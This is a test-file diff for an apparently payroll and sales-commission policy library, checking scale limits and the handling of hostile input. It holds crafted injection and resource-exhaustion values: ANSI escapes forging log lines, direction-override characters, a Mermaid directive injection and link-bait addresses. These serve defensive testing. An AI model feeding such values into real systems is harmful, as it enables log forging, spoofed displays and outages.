+    expect(new Set(told.map(([code]) => code))).toEqual(new Set(['endless-chain', 'more-problems']))
+    expect(told[98]).toEqual(['endless-chain', 'events[98].of'])
+  })
+
+  test('A12 a chain of 10,000 refunds whose first is unknown is told, each once', () => {
+    const told = found(() => creditEvents(refunds(10_000), rules))
+    expect(told).toHaveLength(100)
+    expect(told[98]).toEqual(['unknown-event', 'events[98].of'])
+  })
+
+  const sales = (length: number) =>
+    parseEvents(
+      Array.from({ length }, (_, i) => ({
+        ...{ ...order, id: `s${i}`, attributes: { customer: 'c' } },
+        effective: addDays('2026-01-01', i % 50),
+      })),
+    )
+  const touches = (length: number) =>
+    parseTouches(
+      Array.from({ length }, (_, i) => ({
+        ...{ id: `t${i}`, key: 'c', person: i % 3 === 0 ? 'amina' : 'ben' },
+        date: addDays('2025-12-20', i % 60),
+      })),
+    )
+
+  test.each([
+    ['first', {}],
+    ['last', {}],
+    ['linear', {}],
+    ['position', { first: '0.4', middle: '0.2', last: '0.4' }],
+    ['time-decay', { halfLife: 7 }],
+  ])('A13 2,000 sales to a customer of 2,000 touches are attributed: %s', (kind, more) => {
+    const rule = parseAttribution({
+      ...{ credit: 'indirect', by: 'customer', window: 30 },
+      model: { kind, ...more },
+    })
+    const events = sales(2_000)
+    const credits = attribute(events, touches(2_000), rule)
+    expect(new Set(credits.map(({ event }) => event)).size).toBe(2_000)
+    // As it is for a sale alone.
+    for (const event of [events[0], events[49], events[777]] as SalesEvent[])
+      expect(credits.filter((own) => own.event === event.id)).toEqual(
+        attribute([event], touches(2_000), rule),
+      )
+  })
+})
+
+describe('formulas: large tables and large teams take time by their size', () => {
+  const sales = input('sales', money('CNY'), 2)
+  const numbers = (length: number) => Array.from({ length }, (_, i) => i)
+  const rateOf = (i: number) => fromScaled(BigInt((i * 7) % 100), 3)
+
+  test('A9 3,000 tiers compile, and pay what evaluate pays', () => {
+    const tiers = numbers(3_000).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
+    const formula = check(marginal(sales, tiers))
+    const cents = [-100, 999, 1000, 1001, 99_999_999]
+    const { values, scale } = compile(formula)({ sales: Float64Array.from(cents) })
+    expect([...values].map((value) => fromScaled(BigInt(value), scale))).toEqual(
+      cents.map((cent) => evaluate(formula, { sales: fromScaled(BigInt(cent), 2) }).value),
+    )
+  })
+
+  test.each([
+    [
+      'a step',
+      step(
+        sales,
+        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` })),
+      ),
+    ],
+    [
+      'tiers from minus infinity',
+      marginal(
+        sales,
+        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), rate: rateOf(i) })),
+      ),
+    ],
+  ])('A9 so does %s of 3,000', (_, expression) => {
+    const formula = check(expression)
+    const cents = [-100, 0, 12_345, 2_000_001]
+    const { values, scale } = compile(formula)({ sales: Float64Array.from(cents) })
+    expect([...values].map((value) => fromScaled(BigInt(value), scale))).toEqual(
+      cents.map((cent) => evaluate(formula, { sales: fromScaled(BigInt(cent), 2) }).value),
+    )
+  })
+
+  test('A9 so does a choice of 2,000 categories', () => {
+    const names = numbers(2_000).map((i) => `c${i}`)
+    const cases = Object.fromEntries(names.map((name, i) => [name, constant(`${i}`)]))
+    const formula = check(match('k', cases, constant('-1')))
+    const dictionary = ['c0', 'c1999', 'other', 'c777']
+    const { values } = compile(formula)({ k: { codes: Uint16Array.of(0, 1, 2, 3), dictionary } })
+    expect([...values]).toEqual([0, 1999, -1, 777])
+  })
+
+  const x = input('x', 'count', 0)
+  const count = (value: number) => constant(`${value}`, 'count')
+  const least = (bound: number) => minimum(x, count(bound))
+  const thousands = (make: (i: number) => Expression) => numbers(1_500).map(make)
+
+  test('A10 a sum of 240 minimums is analysed exactly', () => {
+    const bounds = numbers(240).map((i) => i * 7 + 1)
+    const { pieces, nondecreasing, range } = analyze(check(add(...bounds.map(least))), {
+      over: 'x',
+    })
+    expect(pieces).toHaveLength(241)
+    expect(pieces[0]).toMatchObject({ from: '0', to: '1', slope: '240' })
+    expect(nondecreasing).toBe(true)
+    expect(range).toEqual({
+      low: '0',
+      high: `${bounds.reduce((sum, bound) => sum + bound)}`,
+      exact: true,
+    })
+  })
+
+  test('A10 a table of 500 tiers or bands is analysed, each tier and band told of', () => {
+    const tiers = numbers(500).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
+    const { pieces, choices, dead } = analyze(check(marginal(x, tiers)), { over: 'x' })
+    expect(pieces).toHaveLength(500)
+    expect(choices[0]?.branches).toHaveLength(500)
+    expect(dead).toEqual([])
+    const some = analyze(check(marginal(x, tiers)), { over: 'x', domain: { to: '2500' } })
+    expect(some.dead).toHaveLength(250)
+    const bands = numbers(500).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` }))
+    expect(analyze(check(step(x, bands)), { over: 'x' }).pieces).toHaveLength(500)
+  })
+
+  const large: readonly (readonly [string, Expression, string])[] = [
+    [
+      'the greatest of 1,500 lines',
+      maximum(...thousands((i) => subtract(multiply(x, count(i)), count(i * i)))),
+      'too-much-work',
+    ],
+    ['a sum of 1,000 squares', add(...numbers(1_000).map(() => multiply(x, x))), 'too-much-work'],
+    [
+      'a table of 3,000 tiers',
+      marginal(
+        x,
+        numbers(3_000).map((i) => ({ from: `${i}`, rate: rateOf(i) })),
+      ),
+      'too-many-pieces',
+    ],
+    [
+      'a table of 3,000 bands',
+      step(
+        x,
+        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` })),
+      ),
+      'too-many-pieces',
+    ],
+  ]
+  test.each(large)('A10 the analysis of %s is bounded', (_, expression, code) => {
+    const [problem] = problemsOf(() => analyze(check(expression), { over: 'x' }))
+    expect(problem?.code).toBe(code)
+  })
+
+  test('A10 the analysis says in both languages what to do', () => {
+    const tell = (locale: 'en' | 'zh-CN') =>
+      describeProblems(
+        problemsOf(() => analyze(check(large[1]?.[1] as Expression), { over: 'x' })),
+        locale,
+      )
+    expect(tell('en')).toMatch(
+      /an exact analysis would take more than 300000 steps. Analyse a smaller domain, or split the rule into several formulas.$/,
+    )
+    expect(tell('zh-CN')).toMatch(/精确分析超过 300000 步。请缩小分析范围，或把规则拆成几个公式。$/)
+  })
+
+  test('A10 the splits of a deal are bounded', () => {
+    const tiers = numbers(20).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
+    const analysis = analyze(check(marginal(x, tiers)), { over: 'x' })
+    expect(splitGain(analysis, { amount: '100', parts: 3 }).parts).toEqual(['100'])
+    const told = problemsOf(() => splitGain(analysis, { amount: '1000', parts: 5 }))
+    expect(told.map(({ code, path }) => `${code} ${path}`)).toEqual(['too-much-work parts'])
+  })
+
+  test('A10 a rule that is too large to be analysed is refused, and not called fair', () => {
+    const rule = {
+      name: 'large',
+      formula: check(large[0]?.[1] as Expression),
+      measures: [{ input: 'x', better: 'higher' as const }],
+    }
+    const told = problemsOf(() => checkPolicy(rule, { laws: ['monotone'] }))
+    expect(told.map(({ code, path }) => `${code} ${path}`)).toEqual(['too-much-work large'])
+  })
+
+  const teamOf = (scores: readonly number[], ties: 'better' | 'worse') => {
+    const policy = parseDistribution({
+      id: 'year',
+      bands: [
+        { band: 'A', share: '0.2' },
+        { band: 'B', share: '0.8' },
+      ],
+      ties,
+      smallestTeam: 1,
+    })
+    return distribute(
+      policy,
+      scores.map((score, i) => ({ id: `p${i}`, score: `${score}.0` })),
+    )
+  }
+
+  test.each([
+    ['all tied', () => 80],
+    ['two halves', (i: number) => i % 2],
+    ['all apart', (i: number) => i],
+  ])('A13 a team of 16,000 is distributed: %s', (_, scoreOf) => {
+    const { people, bands } = teamOf(numbers(16_000).map(scoreOf), 'worse')
+    expect(people).toHaveLength(16_000)
+    expect(bands.map(({ planned }) => planned)).toEqual([3_200, 12_800])
+  })
+
+  test('A13 a drawn team is ranked by how many score more', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.nat(5), { minLength: 1 }),
+        fc.constantFrom('better' as const, 'worse' as const),
+        (scores, ties) => {
+          const { people } = teamOf(scores, ties)
+          expect(people.map(({ id, rank }) => [id, rank]).toSorted()).toEqual(
+            scores
+              .map((own, i) => [`p${i}`, 1 + scores.filter((score) => score > own).length])
+              .toSorted(),
+          )
+        },
+      ),
+    )
+  })
+})
+
+describe('problem: what is refused is told shortly, and hostile text stays text', () => {
+  /** No refusal is longer: 100 problems, each of a bounded path, message and hint. */
+  const longest = 400_000
+
+  const messageOf = (task: () => unknown): string => {
+    try {
+      task()
+    } catch (error) {
+      if (!isPolicyError(error)) throw error
+      return error.message
+    }
+    return ''
+  }
+
+  /** A book of so many departments that name payment policies, and of so many such policies. */
+  const bookOf = (count: number, wanted: (i: number) => string) => ({
+    id: 'book',
+    currency: 'CNY',
+    rounding: 'half-up',
+    proration: { basis: 'calendar-days' },
+    policies: Array.from({ length: count }, (_, i) => [
+      {
+        kind: 'department',
+        id: `d${i}`,
+        owner: 'HR',
+        versions: [
+          {
+            from: '2026-01-01',
+            reason: 'New',
+            terms: { label: 'D', components: [], payments: wanted(i) },
+          },
+        ],
+      },
+      {
+        kind: 'payments',
+        id: `${'p'.repeat(56)}${String(i).padStart(4, '0')}`,
+        owner: 'HR',
+        versions: [
+          { from: '2026-01-01', reason: 'New', terms: { currency: 'CNY', rounding: 'half-up' } },
+        ],
+      },
+    ]).flat(),
+  })
+
+  test.each<[string, (i: number) => string, RegExp]>([
+    ['near names', (i) => `${'p'.repeat(56)}x${i}`, /Perhaps "p{56}\d+" was meant/],
+    ['far names', (i) => `${'z'.repeat(50)}${i}`, /Use one of: .* and 1180 more/],
+    ['one name', () => 'nobody', /Use one of: .* and 1180 more/],
+  ])('A6 nearest names are bounded: %s', (_, wanted, hint) => {
+    const problems = problemsOf(() => parseBook(bookOf(1_200, wanted)))
+    expect(problems.map(({ code }) => code)).toEqual([
+      ...Array.from({ length: 99 }, () => 'unknown-reference'),
+      'more-problems',
+    ])
+    expect(problems[0]?.hint.en).toMatch(hint)
+    expect(messageOf(() => parseBook(bookOf(1_200, wanted))).length).toBeLessThan(longest)
+  })
+
+  const longKey = 'k'.repeat(1e6)
+  test.each<[string, unknown, string]>([
+    ['over hostile values', { [longKey]: Array(600).fill(new Date(0)) }, 'key-too-long'],
+    ['in each of many parts', Array(600).fill({ [longKey]: 1 }), 'key-too-long'],
+    ['of a case', { op: 'match', cases: { [longKey]: { op: 'constant' } } }, 'key-too-long'],
+    [
+      'on every level',
+      [...Array(150)].reduce((part) => ({ ['k'.repeat(900)]: part }), new Date(0)),
+      'not-plain',
+    ],
+  ])('A7 long keys are refused shortly: %s', (_, json, code) => {
+    expect(found(() => parseFormula(json))[0]?.[0]).toBe(code)
+    expect(messageOf(() => parseFormula(json)).length).toBeLessThan(longest)
+  })
+
+  test.each<[string, () => unknown]>([
+    ['a million zeros', () => parseEvents(Array(1e6).fill(0))],
+    ['many people without anything', () => parsePeople(Array.from({ length: 80_000 }, () => ({})))],
+    ['many rates of one list', () => parseBook({ policies: Array(30_000).fill(0) })],
+    [
+      'many hostile values',
+      () => parseFormula({ op: 'add', of: Array(100_000).fill(new Date(0)) }),
+    ],
+    [
+      'many unknown keys',
+      () =>
+        parsePeople([Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i]))]),
+    ],
+  ])('A8 problems are listed up to 100: %s', (_, task) => {
+    const problems = problemsOf(task)
+    expect(problems).toHaveLength(100)
+    expect(problems.at(-1)?.code).toBe('more-problems')
+    expect(messageOf(task).length).toBeLessThan(longest)
+  })
+
+  /** Every parse function that is exported, each given the JSON where it wants JSON. */
+  const parsers = async () => {
+    const names = readdirSync('src', { withFileTypes: true }).filter((each) => each.isDirectory())
+    const modules = await Promise.all(names.map(({ name }) => import(`../../src/${name}/index.ts`)))
+    return modules.flatMap((exported) =>
+      Object.entries(exported as Record<string, unknown>).flatMap(([name, parse]) =>
+        /^parse[A-Z]/.test(name) && typeof parse === 'function'
+          ? [[name, parse as (...given: unknown[]) => unknown] as const]
+          : [],
+      ),
+    )
+  }
+
+  const hostile = fc.oneof(
+    fc.jsonValue(),
+    fc.constantFrom<unknown>(
+      Array(20_000).fill({}),
+      Array(300).fill({ [longKey]: 1 }),
+      new Array(4e9),
+      Object.assign([], { 3: 1 }),
+      Object.fromEntries(
+        Array.from({ length: 3_000 }, (_, i) => [`id\u202e\n${i}`, 'x'.repeat(9_999)]),
+      ),
+      Symbol('x'),
+      10n ** 5_000n,
+      Object.create(Object.create(null)),
+      new Proxy(
+        {},
+        {
+          ownKeys: () => {
+            throw new Error('from within')
+          },
+        },
+      ),
+      [[['x'.repeat(9_999)]], '\ud83d', '\u001b[31m'],
+    ),
+  )
+  test('A7 A8 A22 A27 every parse function refuses what is hostile shortly, on lines of its own', async () => {
+    const all = await parsers()
+    expect(all.length).toBeGreaterThan(50)
+    fc.assert(
+      fc.property(fc.constantFrom(...all), hostile, ([name, parse], json) => {
+        const given =
+          name === 'parseCareer'
+            ? [career.framework, json]
+            : name === 'parseHistory'
+              ? [json, (value: unknown) => value]
+              : [json]
+        const message = messageOf(() => parse(...given))
+        expect(message.length).toBeLessThan(longest)
+        expect(message.split('\n').length).toBeLessThanOrEqual(100)
+        expect(message.replaceAll('\n', '')).not.toMatch(/\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u)
+      }),
+      { numRuns: 200 },
+    )
+  })
+
+  test.each<[string, string]>([
+    ['a key', 'x\n\u001b[31mFAKE LOG LINE'],
+    ['a key that turns direction', 'x\u202egnp'],
+    ['half a character', 'x\ud83d'],
+  ])('A22 messages show what is hidden: %s', (_, key) => {
+    const message = messageOf(() => parseFormula({ op: 'constant', [key]: 1 }))
+    expect(message).not.toMatch(/[^\P{Cc}\n]|\p{Bidi_Control}|\p{Surrogate}/u)
+    expect(message.split('\n').every((line) => !line.startsWith('\u001b'))).toBe(true)
+  })
+
+  const told = (label: string): Explanation => ({
+    label,
+    value: '1.00 CNY',
+    clause: label,
+    how: [label],
+    steps: [],
+  })
+  test.each([
+    ['a line break', 'Bonus\nTotal pay: 99,999.00 CNY', 'Bonus␤Total pay: 99,999.00 CNY'],
+    ['an escape', '\u001b[31mBonus\u0007', '\\u{1b}[31mBonus\\u{7}'],
+    ['an override of direction', '\u202eYNC 00.9', '\\u{202e}YNC 00.9'],
+  ])('A22 text has no line of an author’s: %s', (_, label, shown) => {
+    expect(renderText(told(label))).toBe(`${shown}: 1.00 CNY [${shown}]\n  ${shown}`)
+    for (const rendered of [renderMarkdown(told(label)), renderHtml(told(label))])
+      expect(rendered).not.toMatch(/[^\P{Cc}\n]|\p{Bidi_Control}/u)
+    expect(renderMarkdown(told(label)).split('\n')).toHaveLength(2)
+  })
+
+  test('A22 a report of laws has no line of an author’s', () => {
+    const broken = { says: { en: 'a', 'zh-CN': 'b' }, rows: [{ 'x\ny': '1\u202e' }] }
+    const reports = [{ law: 'bounded', of: 'p\nq', outcome: 'broken', runs: 1, broken }] as const
+    expect(describeReport({ holds: false, reports }).split('\n')).toEqual([
+      'p␤q: bounded: BROKEN. Pay keeps its floor and its cap.',
+      '  a',
+      '        x␤y',
+      '  1\\u{202e}',
+      '  [{"x\\ny":"1\\u{202e}"}]',
+    ])
+  })
+
+  const chartOf = (label: string) => {
+    const framework = parseCareerFramework({
+      ...career.policy,
+      positions: [{ id: 'a', label }, { id: 'b' }, { id: 'c' }, { id: 'd' }],
+    })
+    const { on } = { on: '2026-01-15' }
+    const [, node = ''] = careerMermaid(framework, parseCareer(framework, career.json), {
+      on,
+      locale: 'en',
+    }).split('\n')
+    return node
+  }
+  test.each([
+    [
+      'a directive',
+      "Lead %%{init: {'theme':'forest'}}%%",
+      "Lead #37;#37;#123;init: #123;'theme':'forest'#125;#125;#37;#37;",
+    ],
+    ['Markdown', '`**x**` _y_ ~z~', '#96;#42;#42;x#42;#42;#96; #95;y#95; #126;z#126;'],
+    ['mathematics and entities', '$$x$$ &amp; \\n', '#36;#36;x#36;#36; #38;amp#59; #92;n'],
+    ['a list', '1. First', '1#46; First'],
+    ['another list', '- First', '#45; First'],
+    ['a line break', 'a\nb', 'a␤b'],
+  ])('A20 Mermaid reads a label as text: %s', (_, label, written) => {
+    expect(chartOf(label)).toBe(`  p0["${written}"]:::here`)
+  })
+
+  test.each([
+    ['http://evil.com/x', 'http\\://evil\\.com/x'],
+    ['https://evil', 'https\\://evil'],
+    ['ftp://x', 'ftp\\://x'],
+    ['www.evil.com', 'www\\.evil\\.com'],
+    ['mailto:a@b.com', 'mailto:a\\@b\\.com'],
+    ['at 9:30, 1/2', 'at 9:30, 1/2'],
+  ])('A21 no address becomes a link: %s', (label, written) => {
+    expect(renderMarkdown({ ...told('x'), label })).toMatch(`- **${written}**: `)
+  })
+
+  test.each<[string, () => unknown]>([
+    [
+      'a category',
+      () =>
+        compile(check(match('k', { a: constant('1') })))({ k: categoryColumn(['x'.repeat(1e5)]) })
+          .problems(0)
+          .map((each) => {
+            throw new PolicyError([each])
+          }),
+    ],
+    ['a reference', () => parseBook(bookOf(1, () => 'x'.repeat(9_000)))],
+    ['an id', () => parsePeople(Array(2).fill({ id: 'x'.repeat(9_000), name: 'X' }))],
+    ['a period', () => parsePeriod('x'.repeat(1e6))],
+  ])('A23 a message quotes the beginning of a text: %s', (_, task) => {
+    const message = messageOf(task)
+    expect(message).toMatch(/./)
+    expect(message).not.toMatch(/x{65}/)
+  })
+
+  test.each<[string, unknown, string, string]>([
+    ['a million', { op: 'add', of: new Array(1e6) }, 'too-large', ''],
+    ['more than memory', { op: 'add', of: new Array(4e9) }, 'too-large', ''],
+    [
+      'one',
+      { op: 'add', of: Object.assign([], { 1: { op: 'constant', value: '1' } }) },
+      'missing',
+      'of[0]',
+    ],
+  ])('A26 places that hold nothing are counted and refused: %s', (_, json, code, path) => {
+    expect(found(() => parseFormula(json))).toEqual([[code, path]])
+  })
+
+  test('A26 a list of events that holds nothing is refused', () => {
+    expect(found(() => parseEvents(new Array(2)))).toEqual([
+      ['missing', '[0]'],
+      ['missing', '[1]'],
+    ])
+    expect(found(() => parseEvents(new Array(4e9)))).toHaveLength(100)
+  })
+
+  test('A27 a value is read once', () => {
+    let asked = 0
+    const json = {
+      op: 'constant',
+      unit: 'ratio',
+      get value() {
+        return asked++ === 0 ? '1' : 'x'.repeat(1e6)
+      },
+    }
+    expect(parseFormula(json).expression).toEqual({ op: 'constant', unit: 'ratio', value: '1' })
+    expect(asked).toBe(1)
+  })
+
+  test.each<[string, unknown]>([
+    [
+      'a hidden member',
+      Object.create(Object.assign(Object.create(null), { op: 'constant', value: '1' })),
+    ],
+    [
+      'a getter that throws',
+      {
+        get op() {
+          throw new TypeError('from within')
+        },
+      },
+    ],
+    [
+      'a proxy that throws',
+      new Proxy(
+        {},
+        {
+          getPrototypeOf: () => {
+            throw new TypeError('from within')
+          },
+        },
+      ),
+    ],
+  ])('A27 what hides or throws is not plain: %s', (_, json) => {
+    expect(found(() => parseFormula(json)).map(([code]) => code)).toEqual(['not-plain'])
+  })
+
+  test.each<[string, unknown]>([
+    ['a symbol', Symbol('2026')],
+    ['a list in a list', [['2026-02']]],
+    ['an object without toString', Object.create(null)],
+    ['nothing', undefined],
+    ['a number', 2026],
+  ])('A27 what is no text is no period: %s', (_, name) => {
+    expect(found(() => parsePeriod(name as string))).toEqual([['not-a-period', 'name']])
+    expect(found(() => periodContaining(name as string, 'month'))).toEqual([['not-a-date', 'date']])
+  })
+
+  test.each(['week', 'toString', undefined])('A27 %s is no kind of period', (kind) => {
+    expect(found(() => periodContaining('2026-02-01', kind as 'month'))).toEqual([
+      ['not-a-period-kind', 'kind'],
+    ])
+  })
+
+  test('A28 long numbers are written in time', () => {
+    const digits = '9'.repeat(300_000)
+    expect(formatNumber(digits)).toHaveLength(399_999)
+    expect(formatNumber(`-${digits}`)).toHaveLength(400_000)
+    expect(formatQuantity(`1.${'0'.repeat(300_000)}1`, 'count', 'en')).toHaveLength(300_003)
+    expect(formatQuantity(`1.${'0'.repeat(300_000)}`, 'count', 'en')).toBe('1')
+    expect(formatNumber('1e5')).toBe('1e5')
+  })
+
+  test.each<[string, unknown, string, string]>([
+    ['a date', { on: new Date(0) }, 'not-json', 'on'],
+    ['nothing in a list', { a: [undefined] }, 'not-json', 'a[0]'],
+    ['a place that holds nothing', [new Array(1)], 'not-json', '[0][0]'],
+    ['no number', { a: { b: Number.NaN } }, 'not-json', 'a.b'],
+    ['a number read inexactly', 2 ** 53, 'not-json', ''],
+    ['half a character', ['\ud83d'], 'not-json', '[0]'],
+    ['nothing', undefined, 'not-json', ''],
+  ])('A29 no digest is of what is no JSON: %s', (_, value, code, path) => {
+    expect(found(() => digestOf(value))).toEqual([[code, path]])
+  })
+
+  test('A29 digests of depth, of circles and of many references to one part end', () => {
+    const nested = (times: number, around: (part: unknown) => unknown) =>
+      Array.from({ length: times }).reduce<unknown>(around, 1)
+    const loop: unknown[] = []
+    loop.push(loop)
+    for (const value of [nested(20_000, (part) => [part]), loop])
+      expect(found(() => digestOf(value)).map(([code]) => code)).toEqual(['too-deep'])
+    expect(found(() => digestOf(nested(50, (part) => [part, part]))).map(([code]) => code)).toEqual(
+      ['too-large'],
+    )
+    expect(digestOf(nested(10, (part) => [part, part]))).toMatch(/^[0-9a-f]{64}$/)
+  })
+
+  test('A31 copies of the library know each other’s errors', async () => {
+    vi.resetModules()
+    const other = await import('../../src/formula/index.js')
+    const errors = await import('../../src/problem/index.js')
+    expect(errors.PolicyError).not.toBe(PolicyError)
+    const wrong = () => other.parseFormula({})
+    expect(wrong).toThrow(PolicyError)
+    expect(wrong).toThrow(errors.PolicyError)
+    expect(found(wrong)).toEqual([['missing', 'op']])
+    expect(isPolicyError(new Error('no'))).toBe(false)
+    const json = [{ from: '2026-01-01', value: {} }]
+    expect(found(() => parseHistory(json, other.parseFormula))).toEqual([
+      ['missing', '[0].value.op'],
+    ])
+  })
+
+  test.each<[string, () => Column, (column: Column) => void]>([
+    ['doubles', () => Float64Array.of(1, Number.NaN), (column) => (column as Float64Array).fill(1)],
+    [
+      'numbers from text',
+      () => numberColumn(['0.01', null], 2),
+      (column) => (column as { integers: Float64Array }).integers.fill(1),
+    ],
+    [
+      'numbers that are none',
+      () => numberColumn(['0.01', 'x'], 2),
+      (column) => (column as unknown as { unreadable: Map<number, unknown> }).unreadable.clear(),
+    ],
+  ])('A32 the problems of a row stay when its column is filled anew: %s', (_, made, fill) => {
+    const column = made()
+    const batch = compile(check(input('sales', 'money:CNY', 2)))({ sales: column })
+    const before = batch.problems(1)
+    expect(before).toHaveLength(1)
+    fill(column)
+    expect(batch.problems(1)).toEqual(before)
+    expect([batch.problems(0), batch.problems(7)]).toEqual([[], []])
+  })
+
+  test('A32 the problems of categories and of divisions stay too', () => {
+    const region = match('region', { north: constant('1') })
+    const codes = categoryColumn(['north', 'south'])
+    const byRegion = compile(check(region))({ region: codes })
+    ;(codes.codes as Int32Array).fill(0)
+    expect(byRegion.problems(1).map(({ code }) => code)).toEqual(['unknown-category'])
+    const sales = input('sales', 'money:CNY', 2)
+    const share = divide(sales, sales, { places: 2, rounding: 'half-up' })
+    const integers = BigInt64Array.of(1n, 0n)
+    const divided = compile(check(share))({ sales: integers })
+    integers.fill(1n)
+    expect(divided.problems(1).map(({ code }) => code)).toEqual(['division-by-zero'])
+  })
+
+  const run = compile(check(input('sales', 'money:CNY', 2)))
+  async function* slow() {
+    yield { sales: Float64Array.of(1) }
+    await new Promise(() => {})
+  }
+  const stopped = async (signal: AbortSignal | { aborted: boolean }) => {
+    for await (const batch of streamBatches(run, slow(), { signal })) expect(batch.rows).toBe(1)
+  }
+  test('A33 a signal stops a stream that waits for its source', async () => {
+    await expect(stopped(AbortSignal.timeout(20))).rejects.toMatchObject({ name: 'TimeoutError' })
+    const controller = new AbortController()
+    setTimeout(() => controller.abort(), 5)
+    await expect(stopped(controller.signal)).rejects.toMatchObject({ name: 'AbortError' })
+    await expect(stopped({ aborted: true })).rejects.toMatchObject({ name: 'AbortError' })
+  })
+
+  const depthOf = (depth: number): Explanation =>
+    Array.from({ length: depth }).reduce<Explanation>(
+      (step) => ({ ...told('x'), steps: [step] }),
+      told('x'),
+    )
+  test.each([renderText, renderMarkdown, renderHtml])(
+    'A36 explanations are rendered to a depth: %o',
+    (render) => {
+      expect(render(depthOf(499))).toContain('x')
+      expect(found(() => render(depthOf(500)))).toEqual([['too-deep', '']])
+      expect(found(() => render(depthOf(20_000)))).toEqual([['too-deep', '']])
+      const wide = Array.from({ length: 40 }).reduce<Explanation>(
+        (step) => ({ ...told('x'), steps: [step, step] }),
+        told('x'),
+      )
+      expect(found(() => render(wide))).toEqual([['too-many-steps', '']])
+    },
+  )
+
+  test('A36 a tree that nobody checked is folded to a depth and a size', () => {
+    const count = { input: () => 1, add: ({ of }: { of: readonly number[] }) => of.length } as never
+    const nested = (levels: number, around: (part: Expression) => Expression) =>
+      Array.from({ length: levels }).reduce<Expression>(around, input('x', 'ratio', 0))
+    expect(
+      fold(
+        nested(3, (part) => add(part, part)),
+        count,
+      ),
+    ).toBe(2)
+    expect(
+      found(() =>
+        fold(
+          nested(20_000, (part) => add(part)),
+          count,
+        ),
+      ),
+    ).toEqual([['too-deep', '']])
+    expect(
+      found(() =>
+        fold(
+          nested(20, (part) => add(part, part)),
+          count,
+        ),
+      ),
+    ).toEqual([['too-many-nodes', '']])
+  })
+
+  test.each([
+    ['an override of direction', 'ann\u202e', 'not-a-plain-id'],
+    ['a mark of direction', '\u200fann', 'not-a-plain-id'],
+    ['a control', 'ann\u0000', 'not-a-plain-id'],
+    ['a line break', 'ann\nbob', 'not-a-plain-id'],
+    ['half a character', 'ann\ud83d', 'broken-text'],
+  ])('A37 %s is no part of an id', (_, id, code) => {
+    const person = { id, name: 'Ann', department: 'd', employment: { from: '2026-01-01' }, pay: {} }
+    expect(found(() => parsePeople([person]))[0]).toEqual([code, '[0].id'])
+    expect(found(() => parseEvents([{ kind: 'order', id }]))[0]).toEqual([code, '[0].id'])
+    expect(found(() => parseCareer(career.framework, { ...career.json, id }))).toEqual([
+      [code, 'id'],
+    ])
+  })
+
+  describe('A30 a column that the table lacks is an error', { timeout: 60_000 }, () => {
+    const formula = check(add(input('a', 'count', 0), input('b', 'count', 0)))
+    const of = (sql: string) =>
+      duckdb(
+        `DROP TABLE IF EXISTS numbers; CREATE TABLE numbers AS SELECT * FROM (VALUES (10, 2, 'x')) AS t(a, b, id); SELECT * FROM (${sql}) AS s`,
+      )
+
+    test.each(['x0', 'X0', 'i0', 'fault', 'k0'])('%s', async (b) => {
+      const sql = selectSql(formula, {
+        dialect: 'duckdb',
+        from: 'numbers',
+        columns: { b },
+        keep: ['id'],
+      })
+      await expect(of(sql)).rejects.toThrow(/column/)
+    })
+
+    test.each(['key', 'given_weight', 'p0'])('%s of a pool', async (weight) => {
+      const sql = allocateSql({
+        dialect: 'duckdb',
+        from: 'numbers',
+        id: 'id',
+        weight,
+        total: 'a',
+        pools: ['b'],
+        ties: 'id',
+      })
+      await expect(of(sql)).rejects.toThrow(/column/)
+    })
+
+    test.each([
+      ['a name', 'b'],
+      ['a name in its table', ['numbers', 'b']],
+      ['a name in its table and schema', ['main', 'numbers', 'b']],
+    ])('and one that it has is read: %s', async (_, b) => {
+      const sql = selectSql(formula, {
+        dialect: 'duckdb',
+        from: ['main', 'numbers'],
+        columns: { b },
+      })
+      expect(await of(sql)).toEqual([['12', null]])
+    })
+
+    test('as is a member of a column', async () => {
+      const sql = selectSql(formula, {
+        dialect: 'duckdb',
+        from: 'nested',
+        columns: { b: ['s', 'b'] },
+      })
+      await duckdb("CREATE OR REPLACE TABLE nested AS SELECT 10 AS a, {'b': 2} AS s")
+      expect(await of(sql)).toEqual([['12', null]])
+    })
+  })
+})
+
+describe('plans: conditions that lint cannot crash on', () => {
+  const policyWith = (more: Partial<PlanPolicy>) => ({
+    id: 'p',
+    currency: 'CNY',
+    period: 'month',
+    measure: { sum: 'sales' },
+    linked: [
+      { sum: 'sales', as: 'a' },
+      { sum: 'sales', as: 'b' },
+      { sum: 'sales', as: 'c' },
+    ],
+    tiers: { kind: 'flat', rate: '0.01' },
+    ...more,
+  })
+  const condition = (kpi: string, of: string) => ({ kpi, of, atLeast: '0.5' })
+
+  test.each<[string, Partial<PlanPolicy>, string]>([
+    ['a kicker', { kickers: [{ ...condition('sales', 'sales'), pays: '7' }] }, 'kickers[0].of'],
+    ['a gate', { gate: condition('sales', 'sales') }, 'gate.of'],
+    [
+      'the condition of an accelerator',
+      {
+        quota: 'quota',
+        accelerator: { steps: [{ from: '1', factor: '2' }], when: condition('a', 'a') },
+      },
+      'accelerator.when.of',
+    ],
+    ['a KPI that is none of the measures', { gate: condition('quality', 'quality') }, 'gate.of'],
+  ])('A34 %s that is asked as a part of itself is refused', (_, more, path) => {
+    expect(found(() => parsePlan(policyWith(more)))).toEqual([['of-itself', path]])
+  })
+
+  test('A34 says in both languages what to do', () => {
+    const problems = problemsOf(() => parsePlan(policyWith({ gate: condition('sales', 'sales') })))
+    expect(describeProblems(problems)).toBe(
+      'gate.of: "sales" is compared with itself. Name the input of its quota, or another measure; leave "of" out to ask for an amount.',
+    )
+    expect(describeProblems(problems, 'zh-CN')).toBe(
+      'gate.of：“sales” 与自身比较。请写明其目标的输入名称，或另一业绩口径；若要求的是金额，请删去“of”。',
+    )
+  })
+
+  const names = ['sales', 'a', 'b', 'c'] as const
+  const pairs = names.flatMap((kpi) => names.filter((of) => of !== kpi).map((of) => [kpi, of]))
+
+  test.each<[string, readonly (readonly string[])[]]>([
+    [
+      'a circle of two',
+      [
+        ['a', 'b'],
+        ['b', 'a'],
+      ],
+    ],
+    [
+      'a circle of three',
+      [
